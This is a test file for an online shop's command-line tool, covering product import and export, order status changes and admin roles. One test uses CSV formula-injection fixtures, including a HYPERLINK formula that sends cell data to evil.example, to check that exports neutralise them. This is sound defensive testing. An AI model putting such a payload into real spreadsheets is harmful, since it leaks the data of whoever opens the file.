import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { neutralizeFormula, restoreFormula } from '../cli/productFiles';
import { runCli } from '../cli/program';
import { catalog, fillCart, orderBodyFor } from './fixtures';
import { DATABASE_KINDS, startTestShop } from './harness';
import { runShopCli } from '../../tools/testkit/processes';
import { orderNumber } from '../../contract';

const HEADER = 'id,name,description,price,category,subCategory,sizes,bestseller,image';

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
  let shop: Awaited<ReturnType<typeof startTestShop>>;
  let workDir: string;
  const shopEnv = () => ({ DATABASE_URL: shop.config.databaseUrl, DATA_DIR: shop.config.dataDir });
  const cli = async (...argv: string[]): Promise<Run> => {
    let stdout = '';
    let stderr = '';
    const code = await runCli(argv, {
      env: shopEnv(),
      cwd: workDir,
      stdout: (text) => (stdout += text),
      stderr: (text) => (stderr += text),
    });
    return { code, stdout, stderr };
  };
  /** The storefront's list once it shows the change (its cache follows the catalog's version within a second). */
  const storefrontWhen = async (done: (products: Awaited<ReturnType<typeof catalog>>) => boolean) => {
    for (let attempt = 0; attempt < 50; attempt += 1) {
      const products = await catalog(shop);
      if (done(products)) return products;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error('the storefront did not follow the catalog change');
  };

  beforeAll(async () => {
    shop = await startTestShop(kind);
    workDir = mkdtempSync(path.join(os.tmpdir(), 'shop-cli-'));
    await sharp({ create: { width: 480, height: 600, channels: 3, background: '#335577' } })
      .jpeg()
      .toFile(path.join(workDir, 'navy.jpg'));
    writeFileSync(path.join(workDir, 'broken.png'), 'not a picture');
  });
  afterAll(async () => {
    await shop.stop();
    rmSync(workDir, { recursive: true, force: true });
  });

  it('prints its help (exit 0) and refuses an unknown command with a suggestion (exit 2)', async () => {
    const help = await cli('--help');
    expect(help.code).toBe(0);
    for (const command of ['products', 'orders', 'users']) expect(help.stdout).toContain(command);
    const unknown = await cli('orders', 'lst');
    expect(unknown).toEqual({ code: 2, stdout: '', stderr: expect.stringContaining('Did you mean list?') });
    expect((await cli('products', 'remove')).code).toBe(2);
  });

  it('imports a CSV: good rows with their pictures reach the storefront, bad rows are reported by line (exit 1)', async () => {
    writeFileSync(
      path.join(workDir, 'new.csv'),
      [
        HEADER,
        'cli-navy-tee,Men Navy Pocket Tee,"Soft cotton, with a pocket.",799,Men,Topwear,S|M|L,yes,navy.jpg',
        'cli-bad,Bad Row,No price here,,Pets,Topwear,M,no,navy.jpg',
        'cli-broken,Broken Picture,A picture that is not one,499,Women,Topwear,M,no,broken.png',
      ].join('\n'),
    );
    const run = await cli('products', 'import', 'new.csv');
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('1 added, 0 updated, 2 rejected.\n');
    expect(run.stderr).toMatch(/^line 3: price must .*; category must be one of Men, Women, Kids$/m);
    expect(run.stderr).toMatch(/^line 4: image: the file is not a picture/m);

    const products = await storefrontWhen((list) => list.some((product) => product._id === 'cli-navy-tee'));
    const added = products.find((product) => product._id === 'cli-navy-tee') as unknown as {
      image: string[];
      price: number;
    };
    expect(added.price).toBe(799);
    const picture = new URL(added.image[0] as string);
    expect([picture.origin, picture.pathname]).toEqual([
      shop.config.publicUrl,
      expect.stringMatching(/^\/images\/products\/cli-navy-tee-1-[0-9a-f]{10}-960\.webp$/),
    ]);
    const served = await shop.get(picture.pathname.replace('-960.webp', '-320.avif'));
    expect([served.status, served.headers['content-type']]).toEqual([200, 'image/avif']);
  });

  it('names a missing picture together with the line’s other mistakes, in one import', async () => {
    writeFileSync(
      path.join(workDir, 'unreadable-pictures.csv'),
      [
        HEADER,
        'cli-missing-a,Missing Picture,No price and no picture,,Pets,Topwear,M,no,gone.jpg|navy.jpg|lost.png',
        'cli-missing-b,Missing Picture B,Only the pictures are wrong,499,Women,Topwear,M,no,gone.jpg|lost.png',
      ].join('\n'),
    );
    const run = await cli('products', 'import', 'unreadable-pictures.csv');
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      /^line 2: price must .*; category must be one of Men, Women, Kids; image: cannot read gone\.jpg \(ENOENT\); image: cannot read lost\.png \(ENOENT\)$/m,
    );
    expect(run.stderr).toMatch(
      /^line 3: image: cannot read gone\.jpg \(ENOENT\); image: cannot read lost\.png \(ENOENT\)$/m,
    );
  });

  it('with --strict imports nothing unless every row is good', async () => {
    writeFileSync(
      path.join(workDir, 'strict.json'),
      JSON.stringify([
        {
          id: 'cli-strict-a',
          name: 'Strict A',
          description: 'Good',
          price: 100,
          category: 'Kids',
          subCategory: 'Topwear',
          sizes: ['4-5Y'],
          image: ['navy.jpg'],
        },
        {
          id: 'cli-strict-b',
          name: 'Strict B',
          description: 'Bad',
          price: -1,
          category: 'Kids',
          subCategory: 'Topwear',
          sizes: ['4-5Y'],
          image: ['navy.jpg'],
        },
      ]),
    );
    const run = await cli('products', 'import', 'strict.json', '--strict');
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('item 2: price must');
    expect(run.stderr).toContain('Nothing was imported');
    expect(await shop.app.db.selectFrom('products').select('id').where('id', 'like', 'cli-strict-%').execute()).toEqual(
      [],
    );
  });

  it('refuses a file it cannot read as products, naming the problem', async () => {
    writeFileSync(path.join(workDir, 'typo.csv'), 'id,name,prize\nx,y,1\n');
    expect(await cli('products', 'import', 'typo.csv')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('unknown column prize'),
    });
    expect(await cli('products', 'import', 'missing.csv')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('cannot read it (ENOENT)'),
    });
    expect(await cli('products', 'import', 'products.txt')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('.csv or .json'),
    });
  });

  it('exports CSV and JSON that import back unchanged', async () => {
    const csv = await cli('products', 'export', '--out', 'all.csv');
    expect(csv.code).toBe(0);
    const json = await cli('products', 'export', '--format', 'json');
    const exported = JSON.parse(json.stdout) as Array<{ id: string }>;
    expect(exported.map((product) => product.id)).toEqual((await catalog(shop)).map((product) => product._id));
    const back = await cli('products', 'import', 'all.csv', '--strict');
    expect(back).toMatchObject({ code: 0, stdout: `0 added, ${exported.length} updated.\n` });
    const again = await cli('products', 'export', '--format', 'json');
    expect(JSON.parse(again.stdout)).toEqual(exported);
  });

  it('exports cells a spreadsheet would run as formulas with a leading apostrophe, and imports them back as they were', async () => {
    const risky = [
      {
        id: 'cli-formula-a',
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click for a discount")',
        description: '+1 555 0100',
      },
      { id: 'cli-formula-b', name: '@SUM(A1:A9)', description: "-5% today, 'quoted' and fine" },
      { id: 'cli-formula-c', name: "'=already quoted", description: 'A plain description' },
    ];
    const rows = risky.map((product) => ({
      ...product,
      price: 100,
      category: 'Men',
      subCategory: 'Topwear',
      sizes: ['M'],
      image: ['/images/hero.svg'],
    }));
    writeFileSync(path.join(workDir, 'risky.json'), JSON.stringify(rows));
    expect((await cli('products', 'import', 'risky.json')).code).toBe(0);
    const csv = await cli('products', 'export', '--out', 'risky.csv');
    expect(csv.code).toBe(0);
    const text = readFileSync(path.join(workDir, 'risky.csv'), 'utf8');
    expect(text).toContain(
      'cli-formula-a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for a discount"")",\'+1 555 0100,',
    );
    expect(text).toContain("cli-formula-b,'@SUM(A1:A9),\"'-5% today, 'quoted' and fine\",");
    expect(text).toContain("cli-formula-c,''=already quoted,A plain description,");

    await shop.app.db.deleteFrom('products').where('id', 'like', 'cli-formula-%').execute();
    expect((await cli('products', 'import', 'risky.csv')).code).toBe(0);
    const back = await shop.app.db
      .selectFrom('products')
      .select(['id', 'name', 'description'])
      .where('id', 'like', 'cli-formula-%')
      .orderBy('id')
      .execute();
    expect(back).toEqual(risky);
  });

  it('adds a product from the command line and removes it again', async () => {
    const add = await cli(
      'products',
      'add',
      '--id',
      'cli-added',
      '--name',
      'Kids Navy Hoodie',
      '--description',
      'Warm.',
      '--price',
      '1299.50',
      '--category',
      'Kids',
      '--type',
      'Winterwear',
      '--sizes',
      '4-5Y',
      '6-7Y',
      '--image',
      'navy.jpg',
      '--bestseller',
    );
    expect(add).toMatchObject({ code: 0, stdout: 'Added cli-added.\n' });
    await storefrontWhen((list) => list[0]?._id === 'cli-added');
    const refused = await cli(
      'products',
      'add',
      '--name',
      'No Sizes',
      '--description',
      'x',
      '--price',
      '1',
      '--category',
      'Kids',
      '--type',
      'Hats',
      '--sizes',
      'M',
      '--image',
      'navy.jpg',
    );
    expect(refused).toMatchObject({ code: 1, stderr: expect.stringContaining('subCategory must be one of') });
    expect(await cli('products', 'remove', 'cli-added')).toMatchObject({ code: 0, stdout: 'Removed cli-added.\n' });
    await storefrontWhen((list) => !list.some((product) => product._id === 'cli-added'));
    expect(await cli('products', 'remove', 'cli-added')).toMatchObject({
      code: 1,
      stderr: 'There is no product cli-added.\n',
    });
  });

  it('lists, shows and moves orders along the lifecycle, refusing impossible moves', async () => {
    const shopper = await shop.newShopper();
    // The products this file imports have no stock; a seeded one has plenty.
    const product = (await catalog(shop)).find((each) => (each.stock[each.sizes[0] as string] ?? 0) >= 3);
    if (!product) throw new Error('the catalog has nothing in stock');
    await fillCart(shop, shopper.token, [{ itemId: product._id, size: product.sizes[0] as string, quantity: 3 }]);
    await shop.post('/api/order/place', await orderBodyFor(shop, shopper.token), shopper.token);
    const listed = await cli('orders', 'list', '--status', 'Order Placed', '--json');
    const orderId = (JSON.parse(listed.stdout) as Array<{ _id: string; email: string }>).find(
      (order) => order.email === shopper.email,
    )?._id as string;
    expect(orderId).toBeDefined();
    const tableRun = await cli('orders', 'list', '--since', '2020-01-01');
    expect(tableRun.stdout.split('\n')[0]).toMatch(
      /^ORDER\s+PLACED \(UTC\)\s+CUSTOMER\s+AMOUNT\s+PAYMENT\s+PIECES\s+STATUS$/,
    );
    expect(tableRun.stdout).toMatch(new RegExp(`^${orderId} .*${shopper.email}.*COD\\s+3\\s+Order Placed$`, 'm'));

    expect(await cli('orders', 'status', orderId, 'Packing', '--by', 'Meera')).toMatchObject({
      code: 0,
      stdout: `Order ${orderId} is now Packing.\n`,
    });
    const skip = await cli('orders', 'status', orderId, 'Delivered');
    expect(skip).toMatchObject({
      code: 1,
      stderr: `Order ${orderId} cannot go from Packing to Delivered. From Packing it can become Shipped or Cancelled.\n`,
    });
    const shown = await cli('orders', 'show', orderId);
    expect(shown.stdout).toContain('Status    Packing');
    expect(shown.stdout).toMatch(/Order Placed\s+Packing\s+Meera/);
    expect((await shop.post('/api/order/userorder', undefined, shopper.token)).body.orders[0].status).toBe('Packing');
    expect(await cli('orders', 'show', 'no-such-order')).toMatchObject({
      code: 1,
      stderr: 'There is no order no-such-order.\n',
    });
    expect(await cli('orders', 'list', '--since', 'last week')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('2026-11-01'),
    });
  });

  it('takes the 8-character order number shoppers and mails see, in any case, wherever it takes an order id', async () => {
    const shopper = await shop.newShopper();
    const product = (await catalog(shop)).find((each) => (each.stock[each.sizes[0] as string] ?? 0) >= 1);
    if (!product) throw new Error('the catalog has nothing in stock');
    await fillCart(shop, shopper.token, [{ itemId: product._id, size: product.sizes[0] as string, quantity: 1 }]);
    const placed = await shop.post('/api/order/place', await orderBodyFor(shop, shopper.token), shopper.token);
    expect(placed.status).toBe(201);
    const orderId = (await shop.post('/api/order/userorder', undefined, shopper.token)).body.orders[0]._id as string;
    const number = orderNumber(orderId);
    expect(number).toMatch(/^[0-9A-F]{8}$/);

    const shown = await cli('orders', 'show', number);
    expect(shown).toMatchObject({ code: 0, stderr: '' });
    expect(shown.stdout).toContain(`Order     ${number} (id ${orderId})`);
    expect(shown.stdout).toContain(`Placed    `);
    expect(shown.stdout).toContain(shopper.email);
    expect(await cli('orders', 'status', number.toLowerCase(), 'Packing', '--by', 'Meera')).toMatchObject({
      code: 0,
      stdout: `Order ${orderId} is now Packing.\n`,
    });
    expect((await shop.post('/api/order/userorder', undefined, shopper.token)).body.orders[0].status).toBe('Packing');
    const unknown = number === 'FFFFFFFF' ? '00000000' : 'FFFFFFFF';
    expect(await cli('orders', 'show', unknown)).toMatchObject({ code: 1, stderr: `There is no order ${unknown}.\n` });
  });

  it('takes statuses in any case, and names every status when one is unknown', async () => {
    const shopper = await shop.newShopper();
    // The products this file imports have no stock; a seeded one has plenty.
    const product = (await catalog(shop)).find((each) => (each.stock[each.sizes[0] as string] ?? 0) >= 3);
    if (!product) throw new Error('the catalog has nothing in stock');
    await fillCart(shop, shopper.token, [{ itemId: product._id, size: product.sizes[0] as string, quantity: 1 }]);
    const placed = await shop.post('/api/order/place', await orderBodyFor(shop, shopper.token), shopper.token);
    expect(placed.status).toBe(201);
    const listed = await cli('orders', 'list', '--status', 'order placed', '--json');
    expect(listed.code).toBe(0);
    const orderId = (JSON.parse(listed.stdout) as Array<{ _id: string; email: string }>).find(
      (order) => order.email === shopper.email,
    )?._id as string;
    expect(orderId).toBeDefined();
    expect(await cli('orders', 'status', orderId, 'packing')).toMatchObject({
      code: 0,
      stdout: `Order ${orderId} is now Packing.\n`,
    });
    expect(await cli('orders', 'status', orderId, 'SHIPPED')).toMatchObject({
      code: 0,
      stdout: `Order ${orderId} is now Shipped.\n`,
    });
    expect(await cli('orders', 'status', orderId, 'out-for-delivery')).toMatchObject({
      code: 0,
      stdout: `Order ${orderId} is now Out for delivery.\n`,
    });

    const unknown = await cli('orders', 'list', '--status', 'Nonsense');
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain(
      '"Nonsense" is not an order status here. The statuses are: Order Placed, Packing, Shipped, Out for delivery, Delivered, Cancelled, Awaiting Payment',
    );
    expect((await cli('orders', 'status', orderId, 'Lost')).stderr).toContain(
      'The statuses are: Order Placed, Packing, Shipped',
    );
  });

  it('answers an unknown command or option with exit 2 and the help that lists what exists', async () => {
    const command = await cli('order', 'list');
    expect(command.code).toBe(2);
    expect(command.stderr).toContain("unknown command 'order'");
    expect(command.stderr).toMatch(/Commands:[\s\S]*orders/);
    const option = await cli('orders', 'list', '--state', 'Shipped');
    expect(option.code).toBe(2);
    expect(option.stderr).toContain("unknown option '--state'");
    expect(option.stderr).toMatch(/Options:[\s\S]*--status <status>/);
  });

  it('gives an account the admin role, which opens the admin API to it', async () => {
    const operator = await shop.newShopper('Meera');
    const adminCall = () =>
      shop.request({ method: 'GET', url: '/api/admin/users', headers: { token: operator.token } });
    expect((await adminCall()).status).toBe(403);
    expect(await cli('users', 'role', operator.email.toUpperCase(), 'admin')).toMatchObject({
      code: 0,
      stdout: `${operator.email.toUpperCase()} is now an admin.\n`,
    });
    expect((await adminCall()).status).toBe(200);
    const users = JSON.parse((await cli('users', 'list', '--json')).stdout) as Array<{ email: string; role: string }>;
    expect(users.find((user) => user.email === operator.email)?.role).toBe('admin');
    expect(await cli('users', 'role', 'nobody@example.com', 'admin')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('There is no account'),
    });
    expect(await cli('users', 'role', operator.email, 'owner')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('shopper or admin'),
    });
  });

  it('says so when the database is unreachable (exit 1)', async () => {
    let stderr = '';
    const code = await runCli(['users', 'list'], {
      env: { DATABASE_URL: 'postgres://postgres@127.0.0.1:1/shop' },
      cwd: workDir,
      stdout: () => undefined,
      stderr: (text) => (stderr += text),
    });
    expect(code).toBe(1);
    expect(stderr).toMatch(/^The database is unreachable .*Check DATABASE_URL/);
  });
});

describe('CSV cells a spreadsheet would run', () => {
  it.each(['=1+1', '+44 20', '-5%', '@SUM(A1)', '\t=1', '\r=1', "'=quoted", "''+twice", 'plain', "'plain", ''])(
    'are written inert and read back as they were: %j',
    (cell) => {
      const written = neutralizeFormula(cell);
      expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
      expect(restoreFormula(written)).toBe(cell);
    },
  );
});

describe('npm run shop as its own process', () => {
  // As an operator runs it from a folder of their own: npm runs the script in the project, files are read from `cwd`.
  const run = (args: string[], env: Record<string, string>, cwd: string) =>
    runShopCli(args, { cwd, env: { ...process.env, ...env } });

  it("works on the shop's database, reads files from the operator's folder, and refuses a database that is not there", async () => {
    const shop = await startTestShop('sqlite');
    const folder = mkdtempSync(path.join(os.tmpdir(), 'shop-cli-operator-'));
    try {
      writeFileSync(
        path.join(folder, 'one.json'),
        JSON.stringify([
          {
            id: 'process-tee',
            name: 'Tee',
            description: 'A tee.',
            price: 1,
            category: 'Men',
            subCategory: 'Topwear',
            sizes: ['M'],
            image: ['/images/hero.svg'],
          },
        ]),
      );
      const env = { DATABASE_URL: shop.config.databaseUrl, DATA_DIR: shop.config.dataDir };
      expect(await run(['products', 'import', 'one.json'], env, folder)).toMatchObject({
        code: 0,
        stdout: '1 added, 0 updated.\n',
      });
      expect((await catalog(shop)).map((product) => product._id)).toContain('process-tee');
      const missing = await run(['users', 'list'], { DATA_DIR: path.join(folder, 'no-shop-here') }, folder);
      expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining('There is no shop database at') });
    } finally {
      await shop.stop();
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
